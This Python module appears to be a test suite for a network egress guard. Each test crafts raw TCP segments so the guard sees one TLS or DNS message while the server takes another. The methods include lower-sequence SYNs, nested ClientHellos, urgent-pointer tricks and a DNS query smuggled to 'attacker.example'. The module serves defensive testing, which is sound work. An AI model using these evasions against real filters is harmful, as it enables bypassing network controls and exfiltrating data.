# SPDX-License-Identifier: MIT
"""The guard's place in a TCP connection, moved by a sender that crafts its own TCP behind a bridge: what is judged and
what the far side takes are two things then."""
import struct

import craft
import tls
from link import BOX, Crafted
from table import attack

DOWN = 1001     # by how much the guard's place is lower than the far side's


def box(what, reason):
    return attack(BOX, what, "uplink", reason, families=(4,), where="box")


def served(t, c, sent, hops=64):
    """The far side takes the second of two hellos, and answers it."""
    c.send(craft.ACK | craft.PSH, sent, hops)
    if c.receive(payload=True)[40:41] != b"\x16":
        raise ConnectionError("the server did not take it")


def lower(c, by, hops):
    """A second SYN on the same ports, which only the guard sees."""
    true = c.seq
    c.seq = true - 1 - by
    c.send(craft.SYN, hops=hops)
    c.seq += 1
    return true


def wait(c):
    """For what the far side says to it, if it does."""
    try:
        c.receive()
    except TimeoutError:
        pass


@box("a second SYN with a lower number, which only the guard sees: a hello there that nobody takes, and another at the "
     "true place",
     "tls-name-not-allowed")
def box_second_syn(t):
    c = Crafted(t, t.shared, 443)
    true = lower(c, DOWN, 2)
    c.send(craft.ACK | craft.PSH, padded(DOWN))
    wait(c)
    c.seq = true
    served(t, c, craft.hello(t.marker, craft.server_name(tls.OTHER)))


@box("the same, where the far side sees none of it, and an old segment has it acknowledge what it has",
     "tls-name-not-allowed")
def box_old_acknowledgment(t):
    c = Crafted(t, t.shared, 443)
    true = lower(c, DOWN, 2)
    c.send(craft.ACK | craft.PSH, padded(DOWN), 2)
    c.seq = true - 1
    c.send(craft.ACK)
    wait(c)
    c.seq = true
    served(t, c, craft.hello(t.marker, craft.server_name(tls.OTHER)))


@box("the same, with the forbidden hello within the padding of the allowed one", "")
def box_hello_within(t):
    inner = craft.hello(t.marker, craft.server_name(tls.OTHER))
    outer = craft.hello(b"", craft.server_name(tls.OURS), craft.extension(21, inner))
    c = Crafted(t, t.shared, 443)
    lower(c, outer.index(inner), 2)
    served(t, c, outer)


@box("a query over TCP with a whole second one in an EDNS option, placed so that a resolver reads that alone", "")
def box_query_within(t):
    inner = craft.query(f"{t.label}.attacker.example")
    inner = struct.pack("!H", len(inner)) + inner
    option = struct.pack("!HH", 65001, len(inner)) + inner
    outer = craft.query("api.openai.com", counts=(1, 0, 0, 1),
                        tail=b"\0" + struct.pack("!HHIH", 41, 1232, 0, len(option)) + option)
    outer = struct.pack("!H", len(outer)) + outer
    c = Crafted(t, t.resolver, 53)
    lower(c, outer.index(inner), 2)
    c.send(craft.ACK | craft.PSH, outer)
    c.receive(payload=True)


@box("urgent data told of before it comes, so that the server skips a byte of the hello", "tls-not-tls")
def box_urgent(t):
    """The guard reads a session id where the server reads names, and the server waits for one byte more."""
    session, after, theirs = tls.two_faced()
    body = b"\3\3" + bytes(32) + bytes([len(session)]) + session + after + theirs
    data = b"\x16\3\1" + struct.pack("!H", len(body) + 4) + b"\1" + len(body).to_bytes(3, "big") + body
    c = Crafted(t, t.shared, 443)
    c.send(craft.ACK | 32, urgent=5 + 4 + 2 + 32)
    c.send(craft.ACK | craft.PSH, data)
    c.seq += len(data)
    served(t, c, b"\0")
    c.seq += 1
    c.send(craft.ACK | craft.PSH, t.marker)


@box("another tenant's name in the second hello, which the server asked for", "tls-name-not-allowed")
def box_second_hello(t):
    c = Crafted(t, t.shared, 443)
    first = craft.hello13(b"", tls.OURS)
    c.send(craft.ACK | craft.PSH, first)
    answer = c.receive(payload=True)
    c.seq += len(first)
    c.ack += len(answer) - 40
    served(t, c, tls.CIPHER + craft.hello13(t.marker, tls.OTHER, tls.KEY))


def padded(size):
    """A hello for our name of that size."""
    bare = len(craft.hello(b"", craft.server_name(tls.OURS), craft.extension(21, b"")))
    return craft.hello(b"", craft.server_name(tls.OURS), craft.extension(21, bytes(size - bare)))
